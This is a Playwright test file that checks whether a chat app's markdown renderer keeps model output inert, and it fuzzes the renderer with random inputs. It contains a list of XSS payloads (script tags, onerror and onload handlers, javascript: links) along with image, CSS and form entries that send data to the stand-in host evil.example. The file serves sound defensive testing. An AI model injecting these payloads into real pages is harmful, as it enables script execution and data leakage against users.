"""Model output is untrusted: it becomes text and a small, fixed set of elements, never script."""

from __future__ import annotations

import random
from typing import Any

from playwright.sync_api import expect

from tests.e2e.conftest import ScriptedModels
from tests.e2e.ui import ChatPage

# Each is streamed in small pieces, so tags are split across chunks as a model would send them.
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    "[click me](javascript:alert(3))",
    '<iframe src="javascript:alert(4)"></iframe>',
    "![tracker](http://evil.example/pixel.png?leak=secret)",
    '<a href="javascript:alert(5)">link</a>',
    "<svg onload=alert(6)><circle r=1 /></svg>",
    "[data](data:text/html,<script>alert(7)</script>)",
    "<details open ontoggle=alert(8)>x</details>",
    "[spaced](  JaVaScRiPt:alert(9))",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/e>",
    '<style>body{background:url("https://evil.example/css")}</style>',
    "```html\n<script>alert(10)</script>\n```",
    "<form action=https://evil.example><button>go</button></form>",
]

# The only elements and attributes the renderer makes; anything else came from the text.
RENDERED_ELEMENTS = """(root) => [...root.querySelectorAll("*")].map((el) => ({
  tag: el.localName,
  attributes: Object.fromEntries([...el.attributes].map((a) => [a.name, a.value])),
}))"""
ALLOWED_TAGS = {
    "p", "br", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "div", "span",
    "button", "pre", "code", "table", "thead", "tbody", "tr", "th", "td", "strong", "em", "del",
    "a",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "class", "href", "target", "rel", "tabindex", "type", "data-action", "data-i18n", "start",
}  # fmt: skip


def assert_only_safe_elements(elements: list[dict[str, Any]]) -> None:
    """Every element is one the renderer makes, links go to http(s) or mailto only."""
    for element in elements:
        assert element["tag"] in ALLOWED_TAGS, element
        assert set(element["attributes"]) <= ALLOWED_ATTRIBUTES, element
        href = element["attributes"].get("href")
        if href is not None:
            assert element["tag"] == "a", element
            assert href.startswith(("http://", "https://", "mailto:")), element


def pieces(text: str, size: int = 3) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def test_chat_model_output_with_html_and_script_stays_inert(
    chat: ChatPage, script: ScriptedModels
) -> None:
    for number, payload in enumerate(PAYLOADS):
        script.pieces = pieces(f"Answer {number}:\n\n{payload}")
        answer = chat.ask(f"Payload number {number}")
        body = chat.body_of(answer)
        if payload.startswith("```"):
            expect(body.locator("pre code")).to_have_text("<script>alert(10)</script>")
        else:
            expect(body).to_contain_text(f"Answer {number}:")
        assert_only_safe_elements(body.evaluate(RENDERED_ELEMENTS))

    messages = chat.page.locator("#messages")
    for tag in ("script", "iframe", "img", "object", "embed", "style", "form", "svg:not(.icon)"):
        expect(messages.locator(tag)).to_have_count(0)
    # The image became a link nobody followed; the page never left this host.
    expect(messages.get_by_role("link", name="🖼 tracker")).to_have_attribute(
        "href", "http://evil.example/pixel.png?leak=secret"
    )
    expect(messages.get_by_text("<img src=x onerror=alert(1)>")).to_be_visible()
    expect(messages.get_by_text("[click me](javascript:alert(3))")).to_be_visible()
    chat.reload()  # stored answers are drawn the same way
    bodies = chat.page.locator("article.message-assistant .message-body")
    expect(bodies).to_have_count(len(PAYLOADS))
    for body in bodies.all():
        assert_only_safe_elements(body.evaluate(RENDERED_ELEMENTS))
    assert chat.watch.dialogs == []
    assert chat.watch.foreign_requests == []


MARKDOWN_CASES = {
    "**bold**, *em*, _em_, ~~gone~~ and `x < y`": (
        "<p><strong>bold</strong>, <em>em</em>, <em>em</em>, <del>gone</del> and "
        "<code>x &lt; y</code></p>"
    ),
    "# Title\n\nText": "<h3>Title</h3><p>Text</p>",
    "line one\nline two": "<p>line one<br>line two</p>",
    "- a\n- b\n  - nested": (
        "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>nested</p></li></ul></li></ul>"
    ),
    "3. three\n4. four": '<ol start="3"><li><p>three</p></li><li><p>four</p></li></ol>',
    "> quoted **text**": "<blockquote><p>quoted <strong>text</strong></p></blockquote>",
    "---": "<hr>",
    "[site](https://example.com/a?b=1)": (
        '<p><a href="https://example.com/a?b=1" target="_blank" '
        'rel="noopener noreferrer nofollow">site</a></p>'
    ),
    "see https://example.com/x.": (
        '<p>see <a href="https://example.com/x" target="_blank" '
        'rel="noopener noreferrer nofollow">https://example.com/x</a>.</p>'
    ),
    "[x](javascript:alert(1))": "<p>[x](javascript:alert(1))</p>",
    "[rel](/api/tags)": "<p>[rel](/api/tags)</p>",
    "<b>not bold</b>": "<p>&lt;b&gt;not bold&lt;/b&gt;</p>",
    "snake_case_name, 2 * 3 * 4": "<p>snake_case_name, 2 * 3 * 4</p>",
    r"\*literal\*": "<p>*literal*</p>",
    "| a | b |\n|---|--:|\n| 1 | 2 |": (
        '<div class="table-wrap" tabindex="0"><table><thead><tr><th>a</th>'
        '<th class="align-right">b</th></tr></thead><tbody><tr><td>1</td>'
        '<td class="align-right">2</td></tr></tbody></table></div>'
    ),
}

RENDER = """([module, cases]) => import(module).then(({ renderMarkdown }) =>
  Object.fromEntries(cases.map((text) => {
    const root = document.createElement("div");
    root.append(renderMarkdown(text));
    return [text, root.innerHTML];
  })))"""


def test_markdown_renders_its_subset(chat: ChatPage) -> None:
    rendered = chat.page.evaluate(RENDER, ["./assets/js/markdown.js", list(MARKDOWN_CASES)])
    assert rendered == MARKDOWN_CASES


def test_markdown_code_blocks_keep_their_text_even_while_open(chat: ChatPage) -> None:
    cases = ["```python\nif a < b:\n    print('<hi>')\n```", "```js\nlet open = 1;"]
    rendered = chat.page.evaluate(
        """([module, cases]) => import(module).then(({ renderMarkdown }) => cases.map((text) => {
          const root = document.createElement("div");
          root.append(renderMarkdown(text));
          return [root.querySelector(".code-language").textContent,
                  root.querySelector("pre code").textContent];
        }))""",
        ["./assets/js/markdown.js", cases],
    )
    assert rendered == [["python", "if a < b:\n    print('<hi>')"], ["js", "let open = 1;"]]


FRAGMENTS = [
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "javascript:", "data:", "[", "]",
    "(", ")", "![", "**", "*", "_", "~~", "`", "```", "\n", "\n\n", "> ", "- ", "1. ", "# ",
    "|", "---", "<", ">", '"', "'", "&", "https://a.example/", "mailto:x@example.com", " ",
    "text", "\\", "<iframe>", "onload=", "&lt;", "\t",
]  # fmt: skip


def test_markdown_never_makes_unsafe_nodes_from_any_mix(chat: ChatPage) -> None:
    rng = random.Random(7)
    texts = ["".join(rng.choices(FRAGMENTS, k=rng.randint(1, 40))) for _ in range(400)]
    texts += ["[" * 5000, "*a " * 3000, "`" * 4000 + "x", "> " * 500 + "deep", "- " * 400]
    elements = chat.page.evaluate(
        """([module, texts]) => import(module).then(({ renderMarkdown }) => {
          const root = document.createElement("div");
          const started = performance.now();
          for (const text of texts) root.append(renderMarkdown(text));
          return { ms: performance.now() - started, elements: [...root.querySelectorAll("*")]
            .map((el) => ({ tag: el.localName, attributes: Object.fromEntries(
              [...el.attributes].map((a) => [a.name, a.value])) })) };
        })""",
        ["./assets/js/markdown.js", texts],
    )
    assert_only_safe_elements(elements["elements"])
    assert elements["ms"] < 2000  # pathological input stays fast
